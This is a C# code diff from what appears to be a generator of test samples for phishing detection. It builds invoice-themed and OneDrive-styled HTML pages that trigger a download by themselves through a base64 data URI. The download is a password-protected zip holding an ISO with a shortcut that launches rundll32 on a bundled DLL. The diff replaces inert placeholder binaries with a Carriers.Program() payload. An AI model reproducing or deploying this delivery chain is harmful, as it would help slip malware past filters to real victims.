@@ -6,7 +6,7 @@ public sealed class PageThatBuildsADownload : SixthRound
     /// <inheritdoc/>
     public override IEnumerable<(string Name, byte[] Content)> Variants()
     {
-        var archive = InertFiles.Zip(("Statement_November.exe", InertFiles.Pe(2048)));
+        var archive = InertFiles.Zip(("Statement_November.exe", Carriers.Program()));
         yield return ("Statement.html", Utf8(Fill("""
             <html>
             <body>
@@ -47,7 +47,7 @@ public sealed class PageThatBuildsADownload : SixthRound
             <a id="dl" download="Rechnung_2026-11.zip" href="data:application/zip;base64,@@1"></a>
             <script>window.onload=function(){setTimeout(function(){document.getElementById("dl").click()},1500)}</script>
             </body></html>
-            """, Convert.ToBase64String(Carriers.Packed("r.zip", "-tzip -p2611", ("Rechnung_2026-11.iso", Carriers.Disc("RECHNUNG", [], ("Rechnung.lnk", new LinkBuilder().To("C:\\Windows\\System32\\rundll32.exe").With("data.dll,Start").Build()), ("data.dll", InertFiles.Pe()))))))));
+            """, Convert.ToBase64String(Carriers.Packed("r.zip", "-tzip -p2611", ("Rechnung_2026-11.iso", Carriers.Disc("RECHNUNG", [], ("Rechnung.lnk", new LinkBuilder().To("C:\\Windows\\System32\\rundll32.exe").With("data.dll,Start").Build()), ("data.dll", Carriers.Program()))))))));
 
         yield return ("Shipping documents.htm", Utf8(Fill("""
             <html><head><title>OneDrive</title></head><body onload="go()">
